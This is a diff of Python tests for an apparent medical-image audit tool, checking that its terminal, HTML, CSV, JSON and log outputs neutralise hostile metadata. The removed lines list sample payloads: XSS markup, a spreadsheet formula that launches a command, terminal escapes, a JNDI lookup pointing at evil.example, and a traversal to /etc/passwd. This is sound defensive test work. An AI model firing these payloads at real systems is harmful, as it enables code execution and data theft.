@@ -13,8 +13,6 @@ import io
 import json
 import logging
 import sys
-import unicodedata
-import warnings
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -26,31 +24,8 @@ from iap_node.audit.reports.files import safe_name
 from iap_node.cli import app
 from iap_node.cli.logs import start_logging
 from iap_node.config import LogConfig
+from tests.integration.audit.hostile import FORMULA, HOSTILE, hostile_instance, is_tame
 from tests.integration.listener.conftest import make_instance
-
-HOSTILE = {
-    "markup": '<script>alert(1)</script><img src=x onerror=alert(2)>"\'><b>',
-    "formula": "=cmd|' /C calc'!A0",
-    "escape": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b[8m",
-    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
-    "rich": "[bold red]bold[/bold red] [link=https://evil.example/]click[/link]",
-    "override": "left\u202eright\u2066isolated\u2069\u200b\u2028line",
-    "template": "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/}",
-    "traversal": "../../../../etc/passwd",
-    "huge": "A" * 60_000,
-}
-# Where a header says what reports show, and what no check lets pass.
-SPOILED = (
-    "Manufacturer", "ManufacturerModelName", "SoftwareVersions", "SeriesDescription", "ProtocolName",
-    "DeviceSerialNumber", "SequenceName", "ImagedNucleus", "ContrastBolusAgent",
-)  # fmt: skip
-FORMULA = ("=", "+", "-", "@", "\t", "\r")
-ALLOWED = {"\n", "\r"}
-
-
-def _is_tame(text: str) -> bool:
-    """Nothing that a terminal obeys or that turns text around: no control, format, surrogate, line separator."""
-    return all(c in ALLOWED or unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp") for c in text)
 
 
 class _Page(HTMLParser):
@@ -75,21 +50,11 @@ def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A folder of hostile instances, each with one kind of hostility in every value that is shown."""
     root = tmp_path_factory.mktemp("archive")
     for number, (name, text) in enumerate(HOSTILE.items()):
-        ds = make_instance(SeriesInstanceUID=f"1.2.3.{number}")
-        with warnings.catch_warnings():
-            warnings.simplefilter("ignore")
-            ds.SpecificCharacterSet = "ISO_IR 192"
-            for keyword in SPOILED:
-                setattr(ds, keyword, text)
-            ds.add_new(0x00080020, "LO", text)  # dates and codes: what pydicom would not write
-            ds.add_new(0x00080030, "LO", text)
-            ds.add_new(0x00185100, "LO", text)
-            ds.add_new(0x00180020, "LO", text)
-            ds.add_new(0x00080008, "LO", text)
-            ds.add_new(0x00180081, "LO", text)
-            folder = root / (text.replace("/", "_")[:60] or name)
-            folder.mkdir()
-            ds.save_as(folder / f"{text.replace('/', '_')[:60]}.dcm", enforce_file_format=True)
+        ds = hostile_instance(text, SeriesInstanceUID=f"1.2.3.{number}")
+        in_a_path = text.replace("/", "_")[:60]
+        folder = root / (in_a_path or name)
+        folder.mkdir()
+        ds.save_as(folder / f"{in_a_path}.dcm", enforce_file_format=True)
     ds = make_instance(SeriesInstanceUID="1.2.3")
     path = root / "\x1b[31mpath"
     ds.save_as(path, enforce_file_format=True)
@@ -110,13 +75,13 @@ def told(archive: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Resul
 def test_the_terminal_obeys_nothing_of_it(told: tuple[Result, Path]) -> None:
     text = told[0].output
     assert "evil.example" in text and "alert(1)" in text
-    assert _is_tame(text)
+    assert is_tame(text)
     assert "[bold red]" in text, "markup was interpreted"
 
 
 def test_the_page_shows_it_and_runs_nothing(told: tuple[Result, Path]) -> None:
     text = (told[1] / "audit.html").read_text(encoding="utf-8")
-    assert _is_tame(text)
+    assert is_tame(text)
     page = _Page()
     page.feed(text)
     assert not page.elements & {"script", "img", "iframe", "object", "embed", "base", "form", "a", "link", "input"}
@@ -131,36 +96,36 @@ def test_no_cell_of_the_table_runs(told: tuple[Result, Path]) -> None:
     assert len(rows) > len(HOSTILE)
     assert len({len(row) for row in rows}) == 1, "a cell broke out of its line"
     cells = [cell for row in rows[1:] for cell in row]
-    assert all(_is_tame(cell) and "\n" not in cell and "\r" not in cell for cell in cells)
+    assert all(is_tame(cell) and "\n" not in cell and "\r" not in cell for cell in cells)
     assert not [cell for cell in cells if cell.startswith(FORMULA) and not cell.lstrip("+-").replace(".", "").isdigit()]
     assert any(cell.startswith("'=cmd") for cell in cells)
 
 
 def test_json_is_ascii_and_keeps_the_value(told: tuple[Result, Path], archive: Path) -> None:
     text = (told[1] / "audit.json").read_text(encoding="ascii")
-    assert _is_tame(text)
+    assert is_tame(text)
     described = {series["series_description"] for series in json.loads(text)["series"]}
     assert {HOSTILE["markup"], HOSTILE["formula"], HOSTILE["rich"]} <= described
     printed = CliRunner().invoke(app, ["audit", str(archive), "--json", "--processes", "1"])
-    assert printed.exit_code == 0 and printed.output.isascii() and _is_tame(printed.output)
+    assert printed.exit_code == 0 and printed.output.isascii() and is_tame(printed.output)
     assert json.loads(printed.output)["n_files"] == len(HOSTILE) + 2
 
 
 def test_uid_that_climbs_is_not_read_and_named_as_such(told: tuple[Result, Path]) -> None:
     unread = json.loads((told[1] / "audit.json").read_text())["unread"]
     assert len(unread) == 2
-    assert all(one["reason"] and _is_tame(one["reason"]) for one in unread)
+    assert all(one["reason"] and is_tame(one["reason"]) for one in unread)
     assert sorted(path.name for path in told[1].iterdir()) == [
         "audit.csv", "audit.groups.csv", "audit.html", "audit.json",
     ]  # fmt: skip
 
 
-def test_an_error_about_a_hostile_path_is_tame(tmp_path: Path) -> None:
+def test_an_error_about_a_hostile_pathis_tame(tmp_path: Path) -> None:
     blocked = tmp_path / "\x1b[31mout\u202e"
     blocked.write_text("a file where a folder should be")
     result = CliRunner().invoke(app, ["audit", str(tmp_path), "--out", str(blocked), "--processes", "1"])
     assert result.exit_code != 0
-    assert _is_tame(result.output)
+    assert is_tame(result.output)
 
 
 @pytest.mark.parametrize("name", HOSTILE)
@@ -186,4 +151,4 @@ def test_log_lines_stay_lines_and_tame(form: str, monkeypatch: pytest.MonkeyPatc
         root.handlers, root.level = handlers, level
     lines = stream.getvalue().splitlines()
     assert len(lines) == 3, lines
-    assert all(_is_tame(line) for line in lines), lines
+    assert all(is_tame(line) for line in lines), lines
